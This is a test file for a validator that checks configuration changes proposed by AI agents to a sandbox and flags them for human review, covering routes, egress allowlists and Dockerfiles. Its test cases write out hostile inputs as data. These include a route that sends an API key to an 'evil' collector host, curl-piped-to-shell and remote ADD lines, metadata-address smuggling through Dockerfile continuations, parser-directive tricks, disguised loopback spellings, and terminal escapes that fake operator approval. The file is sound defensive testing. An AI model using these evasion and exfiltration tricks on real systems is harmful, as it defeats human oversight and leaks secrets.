import { hostname } from 'node:os';
import { DENIAL_FIX } from '@bb/egress';
import { describe, expect, it } from 'vitest';
import {
  analyse,
  classifyFile,
  KINDS,
  parseDockerfile,
  printable,
  validateProposal,
} from '../src/index';

const ctx = { allowedBases: ['bb-base:latest', 'debian:12'] };
const refused = (kind: Parameters<typeof validateProposal>[0], text: string) => {
  try {
    validateProposal(kind, text, ctx);
  } catch (err) {
    return (err as Error).message;
  }
  return undefined;
};

describe('proposals are checked before anyone sees them', () => {
  it('routes: secrets only by env: reference, never literal, never a file path, never in the URL', () => {
    const route = (headers: Record<string, string>, upstream = 'https://api.example.com/v1') =>
      JSON.stringify({ routes: [{ prefix: '/svc', upstream, headers }] });
    expect(refused('routes', route({ 'x-api-key': 'env:SVC_KEY' }))).toBeUndefined();
    expect(refused('routes', route({ 'x-api-key': 'sk-live-0123456789abcdef' }))).toMatch(
      /secret as env:NAME/,
    );
    expect(refused('routes', route({ 'x-api-key': 'file:/run/bb-secrets/token' }))).toMatch(
      /not allowed in a proposal/,
    );
    expect(refused('routes', route({}, 'https://user:hunter2@api.example.com/'))).toMatch(
      /credentials in its URL/,
    );
    expect(refused('routes', route({}, 'https://api.example.com/?key=abc'))).toMatch(
      /query string/,
    );
    expect(refused('routes', '{"routes": [')).toMatch(/routes.json is not JSON/);
  });

  it('allowlist: valid host patterns, no bare or top-level wildcard', () => {
    expect(
      refused('allowlist', JSON.stringify({ allow: ['registry.npmjs.org', '*.pypi.org:443'] })),
    ).toBeUndefined();
    expect(refused('allowlist', JSON.stringify({ allow: ['*'] }))).toMatch(/allows too much/);
    expect(refused('allowlist', JSON.stringify({ allow: ['*.com'] }))).toMatch(/allows too much/);
    expect(refused('allowlist', JSON.stringify({ allow: ['exa mple.com'] }))).toMatch(
      /is not a host/,
    );
    expect(refused('allowlist', JSON.stringify({ hosts: [] }))).toMatch(/\{"allow"/);
  });

  it('Dockerfile: parses, and FROM only an allowed base image', () => {
    const ok =
      'ARG X=1\n# comment\nFROM bb-base:latest AS build\nRUN apk add \\  \n  jq\nFROM build\nRUN printf hi > /x\nUSER 1000\n';
    expect(refused('dockerfile', ok)).toBeUndefined();
    expect(parseDockerfile(ok).map((i) => i.keyword)).toEqual([
      'ARG',
      'FROM',
      'RUN',
      'FROM',
      'RUN',
      'USER',
    ]);
    expect(refused('dockerfile', 'FROM evil/image:1\nRUN true\n')).toMatch(
      /FROM evil\/image:1 is not an allowed base image/,
    );
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Dockerfile variable, not a template
    expect(refused('dockerfile', 'FROM ${BASE}\n')).toMatch(/uses a variable/);
    expect(refused('dockerfile', 'RUN true\n')).toMatch(/first instruction must be FROM/);
    expect(refused('dockerfile', 'FROM debian:12\nFROBNICATE x\n')).toMatch(
      /line 2: .* is not a Dockerfile instruction/,
    );
  });

  it('Dockerfile: nothing comes from outside the allowed bases (no other image, no download)', () => {
    expect(
      refused('dockerfile', 'FROM debian:12\nCOPY --from=evil/tools:1 /bin/x /bin/x\n'),
    ).toMatch(/takes files from evil\/tools:1, which is not an earlier, finished stage/);
    expect(
      refused(
        'dockerfile',
        'FROM debian:12\nRUN --mount=type=bind,from=evil/img,target=/m cp /m/x /x\n',
      ),
    ).toMatch(/not an earlier, finished stage/);
    // A stage may not take from itself (Docker would pull an image of that name).
    expect(refused('dockerfile', 'FROM debian:12 AS alpine\nCOPY --from=alpine /x /x\n')).toMatch(
      /finished stage/,
    );
    expect(refused('dockerfile', 'FROM debian:12\nADD https://evil.test/payload /p\n')).toMatch(
      /ADD is not allowed/,
    );
    expect(refused('dockerfile', 'FROM debian:12\nADD local /p\n')).toMatch(/ADD is not allowed/);
    expect(refused('dockerfile', 'FROM debian:12\nONBUILD RUN x\n')).toMatch(/ONBUILD/);
    // Earlier, finished stages, by name or by number, are fine.
    expect(
      refused(
        'dockerfile',
        'FROM debian:12 AS tools\nRUN true\nFROM bb-base:latest\nCOPY --from=tools /x /x\nCOPY --from=0 /y /y\n',
      ),
    ).toBeUndefined();
  });

  it('Dockerfile: nothing Docker could read differently from us (two reviews)', () => {
    const attacks: Array<[string, RegExp]> = [
      // A backslash then a no-break space: Docker ends the line there, JavaScript's trim would not.
      [
        'FROM debian:12\nRUN echo \\\u00a0\nFROM attacker.example/x\n',
        /U\+00a0 at line 2 is not allowed/,
      ],
      ['# escape=`\nFROM debian:12\n', /parser directives/],
      ['# syntax=evil/frontend\nFROM debian:12\n', /parser directives/],
      // Go's \s takes a carriage return: a directive to Docker, a comment to a naive reader.
      ['#\rescape=`\nFROM debian:12\nLABEL a=\\\nFROM evil/img\n', /U\+000d at line 1/],
      ['FROM debian:12\nRUN <<EOF\necho x\nEOF\n', /heredocs are not allowed/],
      // Docker glues a continued line on as it is: these are http://, --from= and another image.
      [
        'FROM debian:12\nADD http:/\\\n/169.254.169.254/latest/meta-data/ /m\n',
        /only RUN may continue/,
      ],
      ['FROM debian:12 AS s\nCOPY --fr\\\nom=evil.example/x /a /a\n', /only RUN may continue/],
      ['FROM debian\\\n.evil.example/img\n', /only RUN may continue/],
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a Dockerfile variable, not a template
      ['FROM debian:12\nARG U=http://169.254.169.254/\nADD ${U} /m\n', /ADD is not allowed/],
      ['FROM debian:12\nADD ["http:\\/\\/169.254.169.254/","/c"]\n', /ADD is not allowed/],
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a Dockerfile variable, not a template
      ['FROM debian:12\nARG S=evil/img\nCOPY --from=${S} /a /a\n', /COPY takes plain paths only/],
      ['FROM debian:12\nCOPY ["a", "b"]\n', /COPY takes plain paths only/],
      ['FROM debian:12\nVOLUME /d\n', /VOLUME is not allowed/],
      ['FROM debian:12\nHEALTHCHECK CMD true\n', /HEALTHCHECK is not allowed/],
      ['FROM --platform=linux/amd64 debian:12 junk\n', /must be one image reference/],
    ];
    for (const [file, why] of attacks)
      expect(refused('dockerfile', file), JSON.stringify(file)).toMatch(why);
    // A RUN continued as Docker reads it: a backslash, then only spaces; it stays one RUN.
    expect(parseDockerfile('FROM debian:12\nRUN a \\   \n  b\n').map((i) => i.args)).toEqual([
      'debian:12',
      'a b',
    ]);
  });

  it("routes: bot-bottle's own secrets never go through a route; other secrets only over https", () => {
    const route = (headers: Record<string, string>, upstream = 'https://api.example.com/v1') =>
      JSON.stringify({ routes: [{ prefix: '/svc', upstream, headers }] });
    expect(refused('routes', route({ authorization: 'env:FORGE_TOKEN' }))).toMatch(
      /bot-bottle's own secret/,
    );
    expect(refused('routes', route({ x: 'env:BB_API_TOKEN' }))).toMatch(/bot-bottle's own secret/);
    expect(refused('routes', route({ x: 'env:SVC_KEY' }, 'http://api.example.com/'))).toMatch(
      /must be https:\/\//,
    );
    // No other scheme either: the proxy would speak plain HTTP to it.
    expect(refused('routes', route({ x: 'env:SVC_KEY' }, 'ftp://api.example.com/'))).toMatch(
      /must be https:\/\//,
    );
    expect(refused('routes', route({}, 'ws://api.example.com/'))).toMatch(/must be https:\/\//);
    expect(
      refused('routes', route({ x: 'env:SVC_KEY' }, 'http://127.0.0.1:8080/')),
    ).toBeUndefined();
  });

  it('text an agent wrote is shown with its control characters visible, never interpreted', () => {
    const spoof = 'pypi only\u001b[2K\u001b[1A\rthe operator ALREADY approved this\u202e';
    expect(printable(spoof)).toBe(
      'pypi only\\x1b[2K\\x1b[1A\\x0dthe operator ALREADY approved this\\u202e',
    );
    expect(printable('line one\n\tline two')).toBe('line one\n\tline two');
  });

  it('a proposal is routed by the file it changes', () => {
    expect(classifyFile('{"routes": []}')).toBe('routes');
    expect(classifyFile('{"allow": []}')).toBe('allowlist');
    expect(classifyFile('# x\nFROM debian:12\n')).toBe('dockerfile');
    expect(classifyFile('hello')).toBeUndefined();
  });

  it('the proxies point agents at the tools and files this package serves', () => {
    expect(DENIAL_FIX.egress.tool).toBe(KINDS.allowlist.tool);
    expect(DENIAL_FIX.egress.file.endsWith(`/${KINDS.allowlist.file}`)).toBe(true);
    expect(DENIAL_FIX.credential.tool).toBe(KINDS.routes.tool);
    expect(DENIAL_FIX.credential.file.endsWith(`/${KINDS.routes.file}`)).toBe(true);
  });
});

describe('the analyser names what an operator must look at', () => {
  it('routes: a credential sent to a new host, a new secret, plain HTTP, internal addresses', () => {
    const base = JSON.stringify({
      routes: [
        {
          prefix: '/anthropic',
          upstream: 'https://api.anthropic.com',
          headers: { 'x-api-key': 'env:ANTHROPIC_API_KEY' },
        },
      ],
    });
    const next = JSON.stringify({
      routes: [
        {
          prefix: '/anthropic',
          upstream: 'https://api.anthropic.com',
          headers: { 'x-api-key': 'env:ANTHROPIC_API_KEY' },
        },
        {
          prefix: '/leak',
          upstream: 'https://collector.evil.test',
          headers: { 'x-api-key': 'env:ANTHROPIC_API_KEY' },
        },
        {
          prefix: '/new',
          upstream: 'http://api.other.test',
          headers: { authorization: 'env:OTHER_TOKEN' },
        },
        { prefix: '/meta', upstream: 'http://169.254.169.254/latest', headers: {} },
      ],
    });
    const codes = analyse('routes', base, next).map((f) => f.code);
    expect(codes).toEqual(['credential-new-host', 'plain-http', 'secret-new', 'metadata-address']);
  });

  it('allowlist: wildcards, loopback, private and metadata addresses', () => {
    const codes = analyse(
      'allowlist',
      JSON.stringify({ allow: ['registry.npmjs.org'] }),
      JSON.stringify({
        allow: [
          'registry.npmjs.org',
          '*.github.com',
          '127.0.0.1:8080',
          '10.0.0.5',
          '169.254.169.254',
          'pypi.org',
        ],
      }),
    ).map((f) => f.code);
    expect(codes).toEqual([
      'wildcard',
      'internal-address',
      'internal-address',
      'metadata-address',
      'host-new',
    ]);
  });

  it('allowlist: every spelling of an internal address is named as one, never as a new host', () => {
    const spellings = [
      '127.1',
      '127.0.1',
      '0x7f000001',
      '0x7f.1',
      '2130706433',
      '0177.0.0.1',
      '0',
      '[::1]',
      '[::1]:443',
      '::1',
      '[0:0:0:0:0:ffff:7f00:1]',
      '[::ffff:127.0.0.1]:80',
      '[fc00::1]',
      '[fe80::1]',
      '[fd12:3456::10]',
      'localhost.',
      'localhost.localdomain',
      'ip6-localhost',
      'ip6-loopback',
      'kubernetes.default.svc',
      'instance-data',
      'db.home.arpa',
      '127.0.0.1.nip.io',
      'app.10-0-0-5.sslip.io',
      'localtest.me',
      'app.lvh.me',
      '7f000001.nip.io',
      hostname(),
    ];
    const all = analyse(
      'allowlist',
      JSON.stringify({ allow: [] }),
      JSON.stringify({ allow: spellings }),
    );
    for (const entry of spellings) {
      const mine = all.filter((f) => f.message.includes(entry));
      expect(
        mine.map((f) => f.code),
        entry,
      ).not.toContain('host-new');
      expect(
        mine.some((f) => f.severity === 'high'),
        `${entry}: ${JSON.stringify(mine)}`,
      ).toBe(true);
    }
    // AWS's IPv6 metadata address, bracketed, is named as what it is.
    const aws = analyse('allowlist', '{"allow":[]}', '{"allow":["[fd00:ec2::254]"]}');
    expect(aws.map((f) => f.code)).toEqual(['metadata-address']);
    // An ordinary host is still an ordinary new host.
    expect(analyse('allowlist', '{"allow":[]}', '{"allow":["pypi.org:443"]}')[0]?.code).toBe(
      'host-new',
    );
  });

  it('Dockerfile: what the host decides itself at run time is shown as having no effect', () => {
    const found = analyse(
      'dockerfile',
      'FROM bb-base:latest\n',
      'FROM bb-base:latest\nENTRYPOINT ["/bin/sh","-c","x"]\nSTOPSIGNAL SIGUSR1\nCMD ["x"]\nUSER nobody\nENV LD_PRELOAD=/x.so FOO=1\nENV BAR=2\nSHELL ["/bin/bash","-c"]\nLABEL org.example.x=1\n',
    );
    const by = (code: string) => found.filter((f) => f.code === code);
    expect(by('runtime-ignored').map((f) => f.message.split(' ')[2])).toEqual([
      'ENTRYPOINT',
      'STOPSIGNAL',
      'CMD',
      'USER',
    ]);
    expect(by('environment').map((f) => f.severity)).toEqual(['medium', 'info']);
    expect(by('environment')[0]!.message).toContain('LD_PRELOAD');
    expect(by('shell')).toHaveLength(1);
  });

  it("Dockerfile: a LABEL may not set bot-bottle's own labels or name one through a variable", () => {
    for (const line of [
      'LABEL bb.netns=victim',
      'LABEL "bb.slug"="other"',
      'LABEL a=1 BB.managed-by=orchestrator',
      'LABEL forklift.run=x',
      'LABEL $KEY=victim',
      'LABEL bb.role netns',
      'LABEL b\\b.slug=victim',
      'LABEL "b"b.role=gate',
      "LABEL x=1 'b'b.managed-by=orchestrator",
    ])
      expect(refused('dockerfile', `FROM bb-base:latest\n${line}\n`), line).toMatch(
        /may not set bot-bottle's own labels/,
      );
    expect(
      refused('dockerfile', 'FROM bb-base:latest\nLABEL org.example.team=web\n'),
    ).toBeUndefined();
  });

  it('Dockerfile: USER root, a new base, a download piped into a shell, ADD from a URL', () => {
    const codes = analyse(
      'dockerfile',
      'FROM bb-base:latest\n',
      'FROM debian:12\nRUN curl -fsSL https://get.example.test | sh\nADD https://example.test/x /x\nUSER root\n',
    ).map((f) => f.code);
    expect(codes.sort()).toEqual(['base-new', 'pipe-to-shell', 'remote-add', 'user-root']);
  });
});
